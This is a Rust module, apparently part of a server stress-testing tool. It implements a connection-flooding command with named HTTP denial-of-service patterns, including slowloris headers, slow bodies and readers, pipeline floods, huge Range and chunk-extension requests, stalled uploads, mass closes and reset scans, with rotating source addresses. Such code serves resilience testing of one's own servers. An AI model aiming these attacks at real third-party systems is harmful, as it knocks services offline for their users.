//! `load attack KIND`: clients that a server would rather not have. A [`Plan`] says what each of
//! the connections does; how many there are, how fast they are opened, how many bytes they may
//! send and for how long is bounded by the command line. Says `ready` when every connection was
//! tried once, goes on until its time is over or standard input ends, then closes all at once and
//! prints what it has done.

use std::net::SocketAddrV4;
use std::os::fd::{AsRawFd, OwnedFd};
use std::time::{Duration, Instant};

use crate::socket::{Epoll, Events, connect_later, connected, receive, reset_on_close};
use crate::{Failure, Options};

/// Between two looks at all connections.
const TICK_MS: u64 = 20;
/// Connections opened again in a second, at most.
const AGAIN_RATE: f64 = 2_000.0;
/// Never: nothing is due.
const NEVER: u64 = u64::MAX;
const INPUT_BYTES: usize = 1 << 16;
/// A number of bytes that no server takes, for bodies that must be refused.
const HUGE: &str = "10000000000";

/// What is read of the answers.
#[derive(Clone, Copy, PartialEq)]
enum Reads {
    Nothing,
    All,
    /// So many bytes each time the connection is due.
    Drip(usize),
}

/// What one connection does.
struct Plan {
    /// Sent when it is connected.
    first: Vec<u8>,
    /// Sent whenever it is due after that, over and over.
    again: Vec<u8>,
    /// Milliseconds from one to the next; 0 is as fast as they are taken.
    every_ms: u64,
    reads: Reads,
    /// Bytes of the receive buffer: a small one makes a slow reader felt at once.
    window: Option<i32>,
    /// Milliseconds after which it is closed by its client.
    lives_ms: u64,
    /// By a reset.
    resets: bool,
    /// Every second connection sends this instead of `first`.
    garbage: Option<Vec<u8>>,
    /// All of them close at the same moment.
    together: bool,
}

/// A name, and the plan for a path.
type Kind = (&'static str, fn(&str) -> Plan);

const KINDS: &[Kind] = &[
    ("idle", |_| Plan::silent()),
    ("slow-heads", slow_heads),
    ("held-heads", held_heads),
    ("endless-heads", endless_heads),
    ("slow-bodies", slow_bodies),
    ("slow-readers", slow_readers),
    ("scan", scan),
    ("pipeline", pipeline),
    ("chunks", chunks),
    ("extensions", extensions),
    ("trailers", trailers),
    ("ranges", ranges),
    ("upload", upload),
    ("continue", expect_continue),
    ("mass-close", mass_close),
    ("ask", ask),
];

impl Plan {
    fn silent() -> Plan {
        Plan {
            first: Vec::new(),
            again: Vec::new(),
            every_ms: 1_000,
            reads: Reads::All,
            window: None,
            lives_ms: NEVER,
            resets: false,
            garbage: None,
            together: false,
        }
    }

    fn saying(first: String, again: Vec<u8>, every_ms: u64) -> Plan {
        Plan {
            first: first.into_bytes(),
            again,
            every_ms,
            ..Plan::silent()
        }
    }
}

fn slow_heads(path: &str) -> Plan {
    let first = format!("GET {path} HTTP/1.1\r\nHost: a\r\nX-Slow: ");
    Plan::saying(first, b"a".to_vec(), 1_000)
}

/// Nearly as much as a head may have, and then nothing: what it takes is memory.
fn held_heads(path: &str) -> Plan {
    let fields: String = (0..15)
        .map(|n| format!("X-{n}: {}\r\n", "a".repeat(980)))
        .collect();
    Plan::saying(
        format!("GET {path} HTTP/1.1\r\nHost: a\r\n{fields}"),
        Vec::new(),
        1_000,
    )
}

fn endless_heads(path: &str) -> Plan {
    let field = format!("X-Filler: {}\r\n", "a".repeat(1_000));
    let first = format!("GET {path} HTTP/1.1\r\nHost: a\r\n");
    Plan::saying(first, field.into_bytes(), 0)
}

fn slow_bodies(path: &str) -> Plan {
    let first = format!("POST {path} HTTP/1.1\r\nHost: a\r\nContent-Length: 200000\r\n\r\n");
    Plan::saying(first, b"a".to_vec(), 1_000)
}

fn slow_readers(path: &str) -> Plan {
    Plan {
        reads: Reads::Drip(512),
        window: Some(4_096),
        ..Plan::saying(
            format!("GET {path} HTTP/1.1\r\nHost: a\r\n\r\n"),
            Vec::new(),
            1_000,
        )
    }
}

/// Connects and resets at once, as port scans do; every second one says hello in TLS before.
fn scan(_path: &str) -> Plan {
    Plan {
        garbage: Some(
            [
                &b"\x16\x03\x01\x00\xf4\x01\x00\x00\xf0\x03\x03"[..],
                &[7; 200],
            ]
            .concat(),
        ),
        lives_ms: 0,
        resets: true,
        ..Plan::silent()
    }
}

fn pipeline(path: &str) -> Plan {
    let requests = format!("GET {path} HTTP/1.1\r\nHost: a\r\n\r\n").repeat(64);
    Plan {
        reads: Reads::Nothing,
        window: Some(4_096),
        ..Plan::saying(requests.clone(), requests.into_bytes(), 0)
    }
}

fn chunked(path: &str) -> String {
    format!("POST {path} HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n")
}

fn chunks(path: &str) -> Plan {
    Plan::saying(chunked(path), b"1\r\na\r\n".repeat(200), 0)
}

fn extensions(path: &str) -> Plan {
    Plan::saying(chunked(path) + "1;a=", vec![b'a'; 1_000], 0)
}

fn trailers(path: &str) -> Plan {
    let field = format!("X-Filler: {}\r\n", "a".repeat(1_000));
    Plan::saying(chunked(path) + "0\r\n", field.into_bytes(), 0)
}

fn ranges(path: &str) -> Plan {
    let list: Vec<String> = (0..1_000).map(|n| format!("{}-{}", n * 9, n * 9)).collect();
    let field = format!("Range: bytes={}", list.join(","));
    // As long as heads may be everywhere.
    let request = format!(
        "GET {path} HTTP/1.1\r\nHost: a\r\n{}\r\n\r\n",
        &field[..7_900]
    );
    let request = request.replace(",\r\n", "\r\n").replace("-\r\n", "-9\r\n");
    Plan::saying(request.clone(), request.into_bytes(), 250)
}

fn upload(path: &str) -> Plan {
    let first = format!("POST {path} HTTP/1.1\r\nHost: a\r\nContent-Length: {HUGE}\r\n\r\n");
    Plan::saying(first, vec![b'a'; 16 * 1024], 0)
}

fn expect_continue(path: &str) -> Plan {
    let first = format!(
        "POST {path} HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\nContent-Length: 200000\r\n\r\n"
    );
    Plan::saying(first, Vec::new(), 1_000)
}

fn mass_close(path: &str) -> Plan {
    Plan {
        lives_ms: 1_000,
        together: true,
        ..Plan::saying(
            format!("GET {path} HTTP/1.1\r\nHost: a\r\n\r\n"),
            Vec::new(),
            1_000,
        )
    }
}

/// Asks for a path ten times a second, whatever comes of it.
fn ask(path: &str) -> Plan {
    let request = format!("GET {path} HTTP/1.1\r\nHost: a\r\n\r\n");
    Plan::saying(request.clone(), request.into_bytes(), 100)
}

struct Slot {
    socket: Option<OwnedFd>,
    connected: bool,
    /// Bytes of `first`, or of `again`, that were taken.
    sent: usize,
    opening: bool,
    opened_ms: u64,
    due_ms: u64,
    number: u64,
}

#[derive(Default)]
struct Counts {
    /// Connections that were begun.
    opened: u64,
    /// Those that the server's kernel has made, whatever the server did with them.
    connected: u64,
    failed: u64,
    /// Connections that the server has ended.
    ended: u64,
    /// Those that were made and that their client has closed, as its plan says.
    left: u64,
    /// How often the kernel has taken the whole of `first` or `again`.
    texts: u64,
    sent_bytes: u64,
    received_bytes: u64,
    open_max: usize,
}

struct Attack {
    plan: Plan,
    address: SocketAddrV4,
    from: SocketAddrV4,
    sources: u32,
    epoll: Epoll,
    slots: Vec<Slot>,
    vacant: Vec<usize>,
    started: Instant,
    /// Connections that may be opened now, and bytes that may be sent.
    opens_left: f64,
    bytes_left: f64,
    open: usize,
    counts: Counts,
    input: Vec<u8>,
}

pub(crate) fn attack(options: &Options) -> Result<(), Failure> {
    let kind = options.first()?;
    let Some((_, plan)) = KINDS.iter().find(|(name, _)| *name == kind) else {
        let names: Vec<&str> = KINDS.iter().map(|(name, _)| *name).collect();
        return Err(format!("{kind}: there are {}", names.join(", ")));
    };
    let count: usize = options.number("--connections", 100)?;
    let rate: f64 = options.number("--rate", 2_000.0)?;
    let bytes: f64 = options.number("--bytes", 50e6)?;
    let seconds: f64 = options.number("--seconds", 5.0)?;
    let mut attack = Attack {
        plan: plan(options.text("--path").unwrap_or("/10m.bin")),
        address: options.address_at(1)?,
        from: options.from()?,
        sources: options.number("--sources", 1)?,
        epoll: Epoll::new().map_err(|error| error.to_string())?,
        slots: Vec::new(),
        vacant: (0..count).rev().collect(),
        started: Instant::now(),
        opens_left: 0.0,
        bytes_left: 0.0,
        open: 0,
        counts: Counts::default(),
        input: vec![0; INPUT_BYTES],
    };
    attack.slots.resize_with(count, || Slot {
        socket: None,
        connected: false,
        sent: 0,
        opening: false,
        opened_ms: 0,
        due_ms: NEVER,
        number: 0,
    });
    attack.run(count as u64, rate, bytes, seconds)?;
    let counts = &attack.counts;
    crate::hold::say(&format!(
        "{{\"opened\": {}, \"connected\": {}, \"failed\": {}, \"ended\": {}, \"left\": {}, \
         \"kept\": {}, \"open_max\": {}, \"texts\": {}, \"sent_bytes\": {}, \
         \"received_bytes\": {}}}",
        counts.opened,
        counts.connected,
        counts.failed,
        counts.ended,
        counts.left,
        // Until the server has ended them, or until the end.
        counts.connected - counts.left,
        counts.open_max,
        counts.texts,
        counts.sent_bytes,
        counts.received_bytes
    ))
}

impl Attack {
    fn now_ms(&self) -> u64 {
        self.started.elapsed().as_millis() as u64
    }

    fn run(&mut self, count: u64, rate: f64, bytes: f64, seconds: f64) -> Result<(), Failure> {
        let mut events = Events::new();
        let mut told = false;
        let mut tick_ms = 0;
        // Standard input is how the measuring process says that it is enough.
        self.epoll
            .add_input(usize::MAX)
            .map_err(|error| format!("standard input: {error}"))?;
        while self.started.elapsed() < Duration::from_secs_f64(seconds) {
            let wait_ms = tick_ms + TICK_MS - self.now_ms().min(tick_ms + TICK_MS);
            let ready = self.epoll.wait(events.room(), wait_ms as i32);
            let ready = ready.map_err(|error| format!("epoll: {error}"))?;
            for at in 0..ready {
                match events.token(at) {
                    usize::MAX => return Ok(()),
                    token => self.on_event(token),
                }
            }
            let now_ms = self.now_ms();
            if now_ms < tick_ms + TICK_MS {
                continue;
            }
            let share = (now_ms - tick_ms) as f64 / 1_000.0;
            // Once all are open, those that the server has closed come back no faster than this.
            let rate = if told { rate.min(AGAIN_RATE) } else { rate };
            tick_ms = now_ms;
            // What was not used is not saved for later.
            self.opens_left = (self.opens_left + rate * share).min(rate / 5.0);
            self.bytes_left = (self.bytes_left + bytes * share).min(bytes / 5.0);
            self.tick(now_ms);
            if !told && self.counts.opened + self.counts.failed >= count {
                told = true;
                crate::hold::say("ready")?;
            }
        }
        Ok(())
    }

    fn tick(&mut self, now_ms: u64) {
        let lives_ms = self.plan.lives_ms;
        let all = self.plan.together && now_ms % lives_ms < TICK_MS * 2;
        for token in 0..self.slots.len() {
            let slot = &self.slots[token];
            if slot.socket.is_none() {
                continue;
            }
            let over = slot.connected && slot.opened_ms.saturating_add(lives_ms) <= now_ms;
            if all || over && !self.plan.together {
                self.counts.left += u64::from(slot.connected);
                self.close(token);
            } else if slot.connected && slot.due_ms <= now_ms {
                self.act(token, now_ms);
            }
        }
        while self.opens_left >= 1.0 {
            let Some(token) = self.vacant.pop() else {
                break;
            };
            self.opens_left -= 1.0;
            self.open(token, now_ms);
        }
    }

    fn open(&mut self, token: usize, now_ms: u64) {
        let number = self.counts.opened + self.counts.failed;
        let last = (number % u64::from(self.sources.max(1))) as u32;
        let from = SocketAddrV4::new((self.from.ip().to_bits() + last).into(), 0);
        let opened = connect_later(self.address, from, self.plan.window);
        let opened = opened.and_then(|socket| {
            self.epoll.add_both(socket.as_raw_fd(), token)?;
            Ok(socket)
        });
        match opened {
            Ok(socket) => {
                self.counts.opened += 1;
                self.open += 1;
                self.counts.open_max = self.counts.open_max.max(self.open);
                self.slots[token] = Slot {
                    socket: Some(socket),
                    connected: false,
                    sent: 0,
                    opening: true,
                    opened_ms: now_ms,
                    due_ms: NEVER,
                    number,
                };
            }
            Err(_) => {
                self.counts.failed += 1;
                self.vacant.insert(0, token);
            }
        }
    }

    fn close(&mut self, token: usize) {
        let slot = &mut self.slots[token];
        if let Some(socket) = slot.socket.take() {
            if self.plan.resets {
                reset_on_close(socket.as_raw_fd());
            }
            self.open -= 1;
            slot.connected = false;
            self.vacant.insert(0, token);
        }
    }

    fn on_event(&mut self, token: usize) {
        let now_ms = self.now_ms();
        let slot = &mut self.slots[token];
        let Some(socket) = &slot.socket else { return };
        let raw = socket.as_raw_fd();
        if !slot.connected {
            match connected(raw) {
                Ok(false) => return,
                Ok(true) => {
                    slot.connected = true;
                    slot.opened_ms = now_ms;
                    self.counts.connected += 1;
                    self.act(token, now_ms);
                }
                Err(error) => {
                    // Refused is what nobody listens to. Whoever resets or ends it has had it.
                    use std::io::ErrorKind::{BrokenPipe, ConnectionReset};
                    let had = matches!(error.kind(), ConnectionReset | BrokenPipe);
                    self.counts.connected += u64::from(had);
                    self.counts.ended += u64::from(had);
                    self.counts.failed += u64::from(!had);
                    return self.close(token);
                }
            }
        }
        if self.plan.reads == Reads::All {
            self.read(token, usize::MAX);
        }
        if self.plan.every_ms == 0 {
            self.act(token, now_ms);
        }
    }

    /// Reads up to so many bytes; a connection that has ended is vacant.
    fn read(&mut self, token: usize, mut most: usize) {
        while most > 0 {
            let Some(socket) = &self.slots[token].socket else {
                return;
            };
            let room = most.min(INPUT_BYTES);
            match receive(socket.as_raw_fd(), &mut self.input[..room]) {
                Ok(None) => return,
                Ok(Some(0)) | Err(_) => {
                    self.counts.ended += 1;
                    return self.close(token);
                }
                Ok(Some(count)) => {
                    self.counts.received_bytes += count as u64;
                    most -= count;
                }
            }
        }
    }

    /// Sends what is due and reads what is to be read then.
    fn act(&mut self, token: usize, now_ms: u64) {
        if let Reads::Drip(bytes) = self.plan.reads {
            self.read(token, bytes);
        }
        loop {
            let slot = &mut self.slots[token];
            let Some(socket) = &slot.socket else { return };
            let text = match (slot.opening, &self.plan.garbage) {
                (true, Some(garbage)) if slot.number % 2 == 1 => garbage,
                (true, _) => &self.plan.first,
                (false, _) => &self.plan.again,
            };
            let rest = &text[slot.sent..];
            if !rest.is_empty() {
                if self.bytes_left < 1.0 {
                    slot.due_ms = now_ms + TICK_MS;
                    return;
                }
                let taken = crate::socket::send_some(socket.as_raw_fd(), rest);
                let Ok(taken) = taken else {
                    self.counts.ended += 1;
                    return self.close(token);
                };
                self.counts.sent_bytes += taken as u64;
                self.bytes_left -= taken as f64;
                slot.sent += taken;
                if taken < rest.len() {
                    // The rest when there is room: an event, or the next time that it is due.
                    slot.due_ms = now_ms + self.plan.every_ms.max(TICK_MS);
                    return;
                }
                self.counts.texts += 1;
            }
            slot.opening = false;
            slot.sent = 0;
            slot.due_ms = now_ms + self.plan.every_ms.max(TICK_MS);
            if self.plan.every_ms > 0 || self.plan.again.is_empty() {
                return;
            }
        }
    }
}
